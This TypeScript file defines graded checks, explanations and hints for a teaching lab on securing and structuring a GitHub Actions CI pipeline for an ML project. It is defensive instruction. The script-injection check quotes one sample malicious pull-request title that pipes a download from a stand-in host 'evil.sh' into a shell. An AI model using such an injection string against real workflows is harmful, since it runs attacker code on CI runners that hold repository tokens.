// Check definitions for the "CI for an ML project" lab (ids are stable: never rename them).
import type { CheckDefinition } from '../types';

export const CI_FILE = '.github/workflows/ci.yml';

export const CHECK_IDS = [
  'ci.valid-workflow',
  'ci.triggers',
  'ci.permissions',
  'ci.pinned-actions',
  'ci.python-setup',
  'ci.lint-job',
  'ci.unit-test-job',
  'ci.data-validation',
  'ci.quality-gate',
  'ci.job-order',
  'ci.push-only-main',
  'ci.registry-secrets',
  'ci.image-tag-sha',
  'ci.script-injection',
  'ci.train-timeout',
] as const;

export type CheckId = (typeof CHECK_IDS)[number];

export const definitions: Record<CheckId, CheckDefinition> = {
  'ci.valid-workflow': {
    id: 'ci.valid-workflow',
    title: 'Workflow is valid',
    why:
      'GitHub silently ignores a workflow file it cannot parse: no run starts, and a broken pipeline looks exactly like a quiet one. ' +
      'Catching YAML and schema errors in the editor is far cheaper than discovering after a merge that nothing was tested.',
    lesson: 'ci-cd-for-ml',
    hints: [
      'Look at the first error in the Problems panel; later errors are often caused by the first one.',
      'YAML is indentation-sensitive: use spaces, never tabs, and keep sibling keys at the same column.',
      'A workflow needs a top-level `on:` (the events) and a `jobs:` mapping; every job needs `runs-on:` and `steps:`.',
    ],
  },
  'ci.triggers': {
    id: 'ci.triggers',
    title: 'Runs on pull requests and on pushes to main',
    why:
      'Running only on push means a change is tested after it lands, when a broken model or pipeline is already on the main branch. ' +
      'Running on pull requests gives feedback before merging, and running on pushes to main produces the artefacts (the image) from reviewed code.',
    lesson: 'ci-cd-for-ml',
    hints: [
      'Which events should start this workflow: only pushes, or pull requests too?',
      'Under `on:`, list both `pull_request` and `push`, and limit `push` to the main branch.',
      'Use `on:` with `push: { branches: [main] }` and `pull_request: { branches: [main] }`.',
    ],
  },
  'ci.permissions': {
    id: 'ci.permissions',
    title: 'Least-privilege token permissions',
    why:
      'Every job receives a GITHUB_TOKEN; without a `permissions:` block it may be allowed to write to the repository, packages and releases. ' +
      'If a dependency or a step is compromised, a read-only token limits the damage. Grant write access only to the one job that needs it.',
    lesson: 'ci-cd-for-ml',
    hints: [
      'What can the workflow token do by default, and what does each job really need?',
      'Add a top-level `permissions:` block that only allows reading the code; avoid `write-all`.',
      'Top level: `permissions: { contents: read }`. In the job that pushes to ghcr.io: `permissions: { contents: read, packages: write }`.',
    ],
  },
  'ci.pinned-actions': {
    id: 'ci.pinned-actions',
    title: 'Actions pinned to a current version',
    why:
      'An action referenced by a branch (`@main`, `@master`) can change under you at any time, so the same commit can build differently tomorrow, or run code you never reviewed. ' +
      'Old major versions run on deprecated Node runtimes and stop working when GitHub retires them. Pin to a release tag or a commit SHA and keep majors current.',
    lesson: 'why-versioning',
    hints: [
      'Each `uses:` line names an action and a version after `@`. Is that version fixed, and is it recent?',
      'Replace branch refs such as `@master` with a release tag, and upgrade old major versions.',
      'Current majors: actions/checkout@v4, actions/setup-python@v5, actions/cache@v4, actions/upload-artifact@v4, docker/login-action@v3, docker/setup-buildx-action@v3, docker/build-push-action@v6.',
    ],
  },
  'ci.python-setup': {
    id: 'ci.python-setup',
    title: 'Python set up with a fixed version and a pip cache',
    why:
      'The runner image ships some Python, but which one changes when the image is updated, so results drift without any code change. ' +
      'Pinning `python-version` makes CI match your environment, and caching pip downloads makes every job minutes faster.',
    lesson: 'ci-cd-for-ml',
    hints: [
      'Every job is a fresh machine: how does each one get the Python version your project expects?',
      'Use `actions/setup-python` in each job that runs Python, with a `python-version` and its built-in pip cache.',
      'Give the step `with: { python-version: "3.11", cache: pip }`.',
    ],
  },
  'ci.lint-job': {
    id: 'ci.lint-job',
    title: 'A lint job',
    why:
      'A linter catches unused imports, undefined names and style drift in seconds, before the slower test and training jobs spend minutes of compute. ' +
      'In ML code, where notebooks turn into scripts, it keeps the pipeline code readable and reviewable.',
    lesson: 'ci-cd-for-ml',
    hints: [
      'Which cheap check should run first on every change?',
      'Add a job that installs and runs a Python linter such as ruff or flake8.',
      'A `lint` job with steps: checkout, setup-python, `pip install ruff`, `ruff check .`.',
    ],
  },
  'ci.unit-test-job': {
    id: 'ci.unit-test-job',
    title: 'A unit-test job',
    why:
      'Unit tests on feature engineering and data processing catch the silent bugs that do not crash training but quietly make the model worse. ' +
      'Running them on every change is the core of continuous integration.',
    lesson: 'ci-cd-for-ml',
    hints: [
      'The project has a `tests/` folder: does the workflow run it?',
      'Add a job that installs the requirements and runs the test suite.',
      'A `test` job whose last step is `pytest -q`.',
    ],
  },
  'ci.data-validation': {
    id: 'ci.data-validation',
    title: 'Data validated before training',
    why:
      'Training happily fits a model on a file with a renamed column, missing values or labels out of range; the problem shows up weeks later in production. ' +
      'Validating the schema and value ranges first makes bad data fail the pipeline loudly, before any compute is spent on it.',
    lesson: 'ci-cd-for-ml',
    hints: [
      'What should the pipeline check about the data before it trusts it for training?',
      'Run the project\'s data-validation script (or a tool such as Great Expectations or pandera) before the training step.',
      'In the train job, before training: `run: python scripts/validate_data.py data/sample.csv`.',
    ],
  },
  'ci.quality-gate': {
    id: 'ci.quality-gate',
    title: 'Model-quality gate',
    why:
      'A pipeline that trains and ships without looking at the metrics will happily deploy a model that got worse. ' +
      'A gate compares the evaluation metric with a threshold and fails the run, so only models that meet the bar become images.',
    lesson: 'ci-cd-for-ml',
    hints: [
      'After training, what decides whether the new model is good enough to ship?',
      'Add a step after training that exits non-zero when a metric is below a threshold, and make the image build depend on it.',
      'After training: `run: python scripts/check_metrics.py --metrics metrics.json --min-accuracy 0.85`.',
    ],
  },
  'ci.job-order': {
    id: 'ci.job-order',
    title: 'Jobs chained lint → test → train → build-image',
    why:
      'One job that does everything reruns everything on every failure and hides which stage broke. ' +
      'Separate jobs chained with `needs:` fail fast on cheap checks, never spend GPU minutes on code that does not pass its tests, and never build an image from an untested model.',
    lesson: 'ci-cd-for-ml',
    hints: [
      'Which stages does this pipeline have, and which must finish before the next may start?',
      'Split the work into separate jobs (lint, test, train, build-image) and connect them with `needs:`.',
      '`test` has `needs: lint`, `train` has `needs: test`, `build-image` has `needs: train`.',
    ],
  },
  'ci.push-only-main': {
    id: 'ci.push-only-main',
    title: 'Image pushed only from main',
    why:
      'If every branch and pull request pushes to the registry, unreviewed code produces images that look like releases and can overwrite the ones in use. ' +
      'Build on every change to prove the image builds, but publish it only from the main branch.',
    lesson: 'containerization',
    hints: [
      'Pull requests now run this workflow too. What should they not be allowed to do?',
      'Make the push conditional on the branch being main, with an `if:` or an expression.',
      'In docker/build-push-action: `push: ${{ github.ref == \'refs/heads/main\' }}`.',
    ],
  },
  'ci.registry-secrets': {
    id: 'ci.registry-secrets',
    title: 'Registry credentials come from secrets',
    why:
      'A password or token written in the workflow is readable by everyone with access to the repository and stays in the Git history forever, even after you delete the line. ' +
      'Secrets are stored encrypted, masked in logs and can be rotated without a commit.',
    lesson: 'ci-cd-for-ml',
    hints: [
      'Is any credential in this file written out in plain text?',
      'Store credentials as repository secrets and reference them with an expression.',
      'For ghcr.io: `password: ${{ secrets.GITHUB_TOKEN }}`; for another registry: `password: ${{ secrets.REGISTRY_PASSWORD }}`.',
    ],
  },
  'ci.image-tag-sha': {
    id: 'ci.image-tag-sha',
    title: 'Image tagged with the commit SHA',
    why:
      '`latest` is overwritten by every build, so you cannot tell which code and model a running container holds, or roll back to the previous one. ' +
      'Tagging with the commit SHA links each image to the exact code, data and model version that produced it.',
    lesson: 'why-versioning',
    hints: [
      'If production breaks, how would you find out which commit built the running image?',
      'Tag the image with something unique to the commit (you may keep `latest` as an extra tag).',
      'Use `tags: ghcr.io/<owner>/<image>:${{ github.sha }}`.',
    ],
  },
  'ci.script-injection': {
    id: 'ci.script-injection',
    title: 'No untrusted input in run scripts',
    why:
      'Expressions in `run:` are pasted into the shell script before it runs. A commit message, branch name or PR title is written by whoever opens the pull request, ' +
      'so a title like `"; curl evil.sh | sh;"` would execute on your runner with your token. Pass such values through environment variables instead.',
    lesson: 'ci-cd-for-ml',
    hints: [
      'Which values in your `run:` scripts come from the person who pushed or opened the pull request?',
      'Do not put `${{ github.event.* }}` inside `run:`; map it to an `env:` variable and use the variable.',
      'Step: `env: { COMMIT_MSG: ${{ github.event.head_commit.message }} }` and `run: echo "$COMMIT_MSG"`.',
    ],
  },
  'ci.train-timeout': {
    id: 'ci.train-timeout',
    title: 'Training job has a timeout',
    why:
      'A training run that hangs (a stuck download, a dead loop, a diverging run) holds a runner for six hours by default and burns budget. ' +
      'A timeout sized a little above the normal duration turns a hang into a fast, visible failure.',
    lesson: 'ci-cd-for-ml',
    hints: [
      'How long can the training job run before GitHub stops it?',
      'Set `timeout-minutes` on the job that trains the model.',
      'In the train job: `timeout-minutes: 30`.',
    ],
  },
};
